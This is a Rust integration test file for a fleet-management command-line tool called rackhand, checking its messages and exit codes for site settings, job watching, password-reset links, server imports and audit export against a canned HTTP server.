fn a_setting_that_a_site_has_already_is_no_wrong_usage() {
    let mut lab = site(LAB, "lab");
    lab["config"]["hardware_paused"] = json!(true);
    let server = Canned::start(&[
        ("POST /v1/auth/login", 200, signed_in(1)),
        ("GET /v1/sites", 200, json!({"items": [lab]})),
    ]);
    let home = Home::new();
    home.login(&server);
    for (settings, code, said) in [
        (&["--hardware-paused", "true"][..], 0, "hardware operations of lab are paused already\n"),
        (&["--max-mutating-runs", "16"], 0, "nothing was changed: lab is set so already\n"),
        (&[], 2, "error: nothing to change; name a setting (see --help)\n"),
    ] {
        let output = home.run(&[&["sites", "set", "lab"], settings].concat(), "");
        assert_eq!(output.status.code(), Some(code));
        assert_eq!(String::from_utf8([output.stdout, output.stderr].concat()).unwrap(), said);
    }
    assert!(!server.seen().iter().any(|line| line.starts_with("PUT")));
}

#[test]
fn a_new_site_names_the_way_to_its_first_executor() {
    let server = Canned::start(&[
        ("POST /v1/auth/login", 200, signed_in(1)),
        ("POST /v1/sites", 200, site(LAB, "lab")),
    ]);
    let home = Home::new();
    home.login(&server);
    let said = String::from_utf8(home.run(&["sites", "create", "lab"], "").stderr).unwrap();
    assert!(said.contains("`rackhand executors enrol-token --site lab`"), "{said}");
    let refused = home.run(&["sites", "create", "lab "], "");
    assert_eq!(refused.status.code(), Some(2));
    let said = String::from_utf8(refused.stderr).unwrap();
    assert!(said.contains("a site's name has 1 to 80 characters, no space at either end"), "{said}");
}

const WATCHED: &str = "01920000-0000-7000-8000-000000000009";

/// A job in this state, without targets.
fn watched(state: &str, because: &str) -> Value {
    json!({"id": WATCHED, "site_id": LAB, "site": "lab", "kind": "inventory", "params": {},
        "policy": {"max_parallel": 8, "pause_after_failures": 3}, "reason": "a test", "state": state,
        "state_reason": because, "since": "2026-01-02T03:04:05Z", "created_at": "2026-01-02T03:04:05Z",
        "created_by": null, "created_by_name": "Ada", "cancel_requested": false, "trace_id": WATCHED, "targets": 1,
        "runs": {}, "plan": {"digest": "a".repeat(64), "estimated_minutes": 1, "approved_by_name": null,
            "approved_at": null, "targets": []}})
}

/// Each pause is said once, with what to do next.
#[test]
fn watching_says_that_a_job_is_paused_and_goes_on_waiting() {
    let (one, runs) = (format!("GET /v1/jobs/{WATCHED}"), format!("GET /v1/jobs/{WATCHED}/runs"));
    let failures = "Paused automatically after 3 failures";
    let server = Canned::start(&[
        ("POST /v1/auth/login", 200, signed_in(1)),
        ("GET /v1/events", 200, json!({"items": [], "cursor": "7-1", "more": false})),
        (&one, 200, watched("running", "")),
        (&one, 200, watched("paused", failures)),
        (&one, 200, watched("paused", failures)),
        (&one, 200, watched("running", "")),
        (&one, 200, watched("paused", "a rack is dark.")),
        (&one, 200, watched("succeeded", "")),
        (&runs, 200, json!({"items": []})),
    ]);
    let home = Home::new();
    home.login(&server);
    let said = home.run(&["jobs", "watch", WATCHED], "").stderr;
    let said = String::from_utf8_lossy(&said);
    let next = format!(
        "No further run starts. To continue: rackhand jobs resume {WATCHED} --reason TEXT; to end it: \
         rackhand jobs cancel {WATCHED} --reason TEXT"
    );
    assert!(said.contains(&format!("the job is paused: {failures}. {next}\n")), "{said}");
    assert!(said.contains(&format!("the job is paused: a rack is dark. {next}\n")), "{said}");
    assert_eq!(said.matches("is paused").count(), 2, "{said}");
}

/// Nobody draws bars for runs that do not exist yet; Ctrl-C leaves the job alone and says so.
#[test]
fn watching_says_what_is_waited_for_and_what_goes_on() {
    let (id, digest) = (WATCHED, "a".repeat(64));
    let job = watched("planned", "");
    let (one, runs) = (format!("GET /v1/jobs/{id}"), format!("GET /v1/jobs/{id}/runs"));
    let server = Canned::start(&[
        ("POST /v1/auth/login", 200, signed_in(1)),
        ("GET /v1/events", 200, json!({"items": [], "cursor": "7-1", "more": false})),
        (&one, 200, job),
        (&runs, 200, json!({"items": []})),
    ]);
    let home = Home::new();
    home.login(&server);
    let mut command = Command::new(env!("CARGO_BIN_EXE_rackhand"));
    command.args(["jobs", "watch", id]).env("XDG_CONFIG_HOME", home.0.path());
    let mut child =
        command.stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    let mut stderr = BufReader::new(child.stderr.take().unwrap());
    let mut said = String::new();
    stderr.read_line(&mut said).unwrap();
    let process = rustix::process::Pid::from_raw(child.id().try_into().unwrap()).unwrap();
    rustix::process::kill_process(process, rustix::process::Signal::INT).unwrap();
    stderr.read_to_string(&mut said).unwrap();
    assert_eq!(child.wait().unwrap().code(), Some(130), "{said}");
    assert!(
        said.contains(&format!("waits for approval: rackhand jobs apply {id} --digest {digest}")),
        "{said}"
    );
    assert_eq!(said.lines().filter(|line| line.starts_with("waits for approval")).count(), 1, "{said}");
    let left = format!(
        "error: interrupted; job {id} waits for approval: rackhand jobs apply {id} --digest {digest}\n"
    );
    assert!(said.ends_with(&left), "{said}");
}

#[test]
fn whoever_stops_watching_hears_how_the_job_stands() {
    let (one, runs) = (format!("GET /v1/jobs/{WATCHED}"), format!("GET /v1/jobs/{WATCHED}/runs"));
    let mut ending = watched("running", "");
    ending["cancel_requested"] = json!(true);
    for (job, stands) in [
        (watched("planned", ""), format!("waits for approval: rackhand jobs apply {WATCHED} --digest")),
        (
            watched("paused", "a rack is dark"),
            format!(
                "is paused: a rack is dark. No further run starts. To continue: rackhand jobs resume {WATCHED}"
            ),
        ),
        (watched("running", ""), "goes on\n".to_owned()),
        (ending, "is being cancelled\n".to_owned()),
    ] {
        let server = Canned::start(&[
            ("POST /v1/auth/login", 200, signed_in(1)),
            ("GET /v1/events", 200, json!({"items": [], "cursor": "7-1", "more": false})),
            (&one, 200, job),
            (&runs, 200, json!({"items": []})),
        ]);
        let home = Home::new();
        home.login(&server);
        let output = home.run(&["jobs", "watch", WATCHED, "--timeout", "1"], "");
        let said = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(8), "{said}");
        let left = format!("error: job {WATCHED} has not ended within 1 s; it {stands}");
        assert!(said.contains(&left), "{said}");
    }
}

/// Whoever gets a link has never signed in, so the command that they are given names the control plane.
#[test]
fn the_command_for_a_link_works_without_a_sign_in() {
    let id = "01920000-0000-7000-8000-000000000006";
    let user = json!({"id": id, "email": "ben@rackhand.example", "name": "Ben", "disabled": false,
        "created_at": "2026-01-01T00:00:00Z", "grants": []});
    let link = format!("POST /v1/users/{id}/password-link");
    let server = Canned::start(&[
        ("POST /v1/auth/login", 200, signed_in(1)),
        ("GET /v1/users", 200, json!({"items": [user]})),
        (&link, 201, json!({"token": "t0ken", "expires_in": 7200, "link": null})),
        ("POST /v1/auth/password-choice", 204, Value::Null),
    ]);
    let admin = Home::new();
    admin.login(&server);
    let said = admin.run(&["users", "reset-password", "ben@rackhand.example"], "").stderr;
    let said = String::from_utf8_lossy(&said);
    let command = format!("rackhand password --with-link --api {}", server.url);
    assert!(
        said.contains(&format!("At a terminal of this machine, whose own address it is: `{command}`")),
        "{said}"
    );
    let ben = Home::new();
    let typed: Vec<&str> = command.split(' ').skip(1).collect();
    let chosen = ben.run(&typed, "t0ken\nlong enough for this\n");
    let said = String::from_utf8_lossy(&chosen.stderr);
    assert!(chosen.status.success(), "{said}");
    assert!(said.contains(&format!("sign in with `rackhand login {}`", server.url)), "{said}");
    let said = ben.run(&["password", "--with-link"], "").stderr;
    let said = String::from_utf8_lossy(&said);
    assert!(said.contains("which control plane? `rackhand password --with-link --api https://…`"), "{said}");
}

#[test]
fn a_servers_file_with_a_strange_key_names_what_an_entry_takes() {
    let server = Canned::start(&[("POST /v1/auth/login", 200, signed_in(1))]);
    let home = Home::new();
    home.login(&server);
    let file = home.0.path().join("servers.json");
    let rows = json!([{"name": "bmc-01", "bmc_url": "https://10.0.0.1", "credential_id": null},
        {"name": "bmc-02", "bmc_url": "https://10.0.0.2", "tag": "rack:7"}]);
    std::fs::write(&file, rows.to_string()).unwrap();
    let output = home.run(&["servers", "import", file.to_str().unwrap()], "");
    let said = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(2), "{said}");
    assert!(
        said.ends_with(
            ": an entry takes name, bmc_url, ipmi, spki_sha256, credential, tags; nothing was registered:\n  entry 2 \
             (bmc-02): it has `tag`\n"
        ),
        "{said}"
    );
}

#[test]
fn a_servers_file_that_is_not_there_is_wrong_usage_as_a_broken_one_is() {
    let server = Canned::start(&[("POST /v1/auth/login", 200, signed_in(1))]);
    let home = Home::new();
    home.login(&server);
    for (file, said) in [("nope", "FILE nope: there is no such file\n"), ("/", "FILE /: it is a directory\n")]
    {
        let output = home.run(&["servers", "import", file], "");
        assert_eq!(output.status.code(), Some(2));
        assert_eq!(String::from_utf8(output.stderr).unwrap(), format!("error: {said}"));
    }
}

#[test]
fn an_entry_of_another_type_is_told_which_field_takes_what() {
    let rows = json!([
        {"name": null, "bmc_url": "https://10.0.0.1"},
        {"name": "a2", "bmc_url": "https://10.0.0.2", "tags": "rack"},
        {"name": "a3", "bmc_url": 7, "spki_sha256": 7, "tags": ["a", 1]},
        {"name": "a4"},
        "a5",
    ]);
    let refused: Vec<Value> = rows
        .as_array()
        .unwrap()
        .iter()
        .enumerate()
        .map(|(index, row)| json!({"index": index, "detail": refusal(row)}))
        .collect();
    let server = Canned::start(&[
        ("POST /v1/auth/login", 200, signed_in(1)),
        ("GET /v1/sites", 200, json!({"items": [site(LAB, "lab")]})),
        (
            "POST /v1/servers/bulk",
            200,
            json!({"created": 0, "changed": 0, "unchanged": 0, "ids": {}, "refused": refused}),
        ),
    ]);
    let home = Home::new();
    home.login(&server);
    let file = home.0.path().join("servers.json");
    std::fs::write(&file, rows.to_string()).unwrap();
    let output = home.run(&["servers", "import", file.to_str().unwrap()], "");
    insta::assert_snapshot!(String::from_utf8(output.stderr).unwrap(), @r#"
    refused: entry 1: name: requires text in quotes
    refused: entry 2 (a2): tags: requires a list of words, such as ["rack:7"]
    refused: entry 3 (a3): bmc_url: requires text in quotes; spki_sha256: requires text in quotes, or null; tags: requires a list of words, such as ["rack:7"]
    refused: entry 4 (a4): bmc_url: is missing
    refused: entry 5: requires an object with name and bmc_url
    error: every server was refused
    "#);
}

#[test]
fn a_refused_export_leaves_no_folder() {
    let refused = problem("forbidden-role", 403, "This needs the role admin for the whole fleet.");
    let server = Canned::start(&[
        ("POST /v1/auth/login", 200, signed_in(1)),
        ("GET /v1/audit/audit/checkpoints", 403, refused),
    ]);
    let home = Home::new();
    home.login(&server);
    let folder = home.0.path().join("trail");
    let output = home.run(&["audit", "export", "--out", folder.to_str().unwrap()], "");
    assert_eq!(output.status.code(), Some(5), "{}", String::from_utf8_lossy(&output.stderr));
    assert!(!folder.exists());
}
